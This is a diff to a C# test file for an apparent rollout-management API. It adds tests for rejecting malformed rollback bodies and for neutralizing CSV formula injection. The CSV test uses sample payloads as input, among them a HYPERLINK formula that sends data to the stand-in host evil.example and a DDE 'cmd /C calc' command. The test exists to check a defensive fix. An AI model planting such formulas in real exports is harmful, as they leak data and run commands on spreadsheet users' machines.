@@ -92,6 +92,24 @@ public sealed class HistoryApiTests : IAsyncLifetime
         Assert.Null(await IstioObjects.VirtualServiceAsync(Host.Kubernetes, "bookinfo", "ratings"));
     }
 
+    [Theory]
+    [InlineData("""{ "toStable": "yes" }""", "toStable")]
+    [InlineData("""{ "toRevision": 7 }""", "toRevision")]
+    [InlineData("""{ "toStable": true, "reason": ["a"] }""", "reason")]
+    [InlineData("""not json""", "body")]
+    [InlineData("""[ true ]""", "body")]
+    public async Task A_rollback_body_of_the_wrong_shape_is_400_naming_the_field(string json, string field)
+    {
+        using HttpClient client = Host.CreateClient();
+
+        (HttpResponseMessage response, JsonElement body) = await RollbackAsync(client, json, "ratings");
+
+        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{(int)response.StatusCode} {body}");
+        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
+        Assert.True(body.GetProperty("errors").TryGetProperty(field, out _), body.ToString());
+        Assert.Null(await IstioObjects.VirtualServiceAsync(Host.Kubernetes, "bookinfo", "ratings"));
+    }
+
     [Fact]
     public async Task Unknown_revisions_services_and_long_reasons_are_refused()
     {
@@ -154,6 +172,28 @@ public sealed class HistoryApiTests : IAsyncLifetime
         string row = lines.Single(static l => l.StartsWith("bookinfo,reviews,", StringComparison.Ordinal));
         Assert.Contains("v1=80;v2=20;v3=0", row, StringComparison.Ordinal);
         Assert.Contains("\"ops, \"\"night\"\" shift\"", row, StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://evil.example/?leak\",\"open\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"open\"\")\"")]
+    [InlineData("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
+    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
+    [InlineData("+1", "'+1")]
+    public async Task A_csv_cell_that_a_spreadsheet_would_run_as_a_formula_is_neutralized(string actor, string cell)
+    {
+        // A name someone chose (here the actor) must open as text in a spreadsheet, never as a formula (OWASP CSV injection).
+        var options = new ConsoleTestHostOptions();
+        options.Settings["Console:DefaultActor"] = actor;
+        await using ConsoleTestHost host = await ConsoleTestHost.StartAsync(options);
+        using HttpClient client = host.CreateClient();
+        await PutAsync(client, """{ "v1": 80, "v2": 20, "v3": 0 }""");
+
+        using HttpResponseMessage csv = await client.GetAsync(new Uri("api/v1/rollouts?format=csv", UriKind.Relative));
+        string row = (await csv.Content.ReadAsStringAsync()).Split("\r\n").Single(static l => l.StartsWith("bookinfo,reviews,", StringComparison.Ordinal));
+
+        Assert.Contains("," + cell + ",", row, StringComparison.Ordinal);
+        Assert.DoesNotContain("," + actor, row, StringComparison.Ordinal);
+        Assert.DoesNotContain(",\"" + actor[0], row, StringComparison.Ordinal);
     }
 
     [Fact]
